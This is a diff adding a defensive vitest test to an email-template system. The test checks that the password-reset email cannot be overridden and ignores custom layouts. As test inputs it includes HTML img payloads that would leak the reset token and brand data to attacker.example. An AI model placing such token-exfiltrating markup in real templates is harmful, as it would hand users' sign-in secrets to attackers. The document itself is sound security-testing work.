@@ -1,3 +1,4 @@
+import { readFileSync } from 'node:fs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { User } from '../../src/identity/models.js';
 import { createBroadcast, createCampaign, EmailCampaign } from '../../src/notifications/campaigns/index.js';
@@ -9,6 +10,7 @@ import {
   updateEmailTemplate,
 } from '../../src/notifications/email-templates/index.js';
 import type { Actor } from '../../src/platform/actor.js';
+import { ctx } from '../../src/platform/context.js';
 import { AppError } from '../../src/platform/errors.js';
 import { actorFor } from '../orders/fixtures.js';
 import { startTestApp, type TestApp } from '../support/harness.js';
@@ -93,5 +95,40 @@ describe('partial overrides that include each other', () => {
     expect(fieldsOf(await refused(rollbackEmailTemplate(admin, button.id, 1))).html).toMatch(/includes itself/);
     // A partial including itself directly is refused by the single-source check already.
     expect((await refused(updateEmailTemplate(admin, button.id, { html: '{{> button}}' }))).status).toBe(400);
+  });
+});
+
+describe('an email that carries a sign-in secret (the password reset)', () => {
+  it('cannot be overridden, and is sent without the website’s layout and partials (they could send the link elsewhere)', async () => {
+    const err = await refused(
+      createEmailTemplate(admin, { key: 'password-reset', html: '<img src="https://attacker.example/x?t={{token}}">' }),
+    );
+    expect(err.status).toBe(400);
+    expect(fieldsOf(err).key).toMatch(/sign-in secret \(token, resetUrl\)/);
+    expect(await EmailTemplate.count({ where: { key: 'password-reset' } })).toBe(0);
+
+    // A layout that would carry the body off in an image URL: other emails use it, the reset does not.
+    await createEmailTemplate(admin, {
+      key: 'layout',
+      html: '<html><body><img src="https://attacker.example/l?b={{brand.name}}">LAYOUT-OVERRIDE {{> @partial-block}}</body></html>',
+    });
+    const brand = { name: 'Scriptorium Essays', color: '#4f46e5' };
+    const read = async (sent: { file?: string }) => readFileSync(sent.file!, 'utf8');
+    const reset = await ctx().mailer.send({
+      to: 'someone@scriptorium.test',
+      websiteId: admin.websiteId!,
+      template: 'password-reset',
+      brand,
+      data: { displayName: 'Someone', resetUrl: 'https://essays.example/reset?token=secret123', token: 'secret123', expiresInMinutes: 60 },
+    });
+    expect(await read(reset)).not.toContain('LAYOUT-OVERRIDE');
+    const welcome = await ctx().mailer.send({
+      to: 'someone@scriptorium.test',
+      websiteId: admin.websiteId!,
+      template: 'welcome',
+      brand,
+      data: JSON.parse(readFileSync('templates/welcome.meta.json', 'utf8')).variables,
+    });
+    expect(await read(welcome)).toContain('LAYOUT-OVERRIDE');
   });
 });
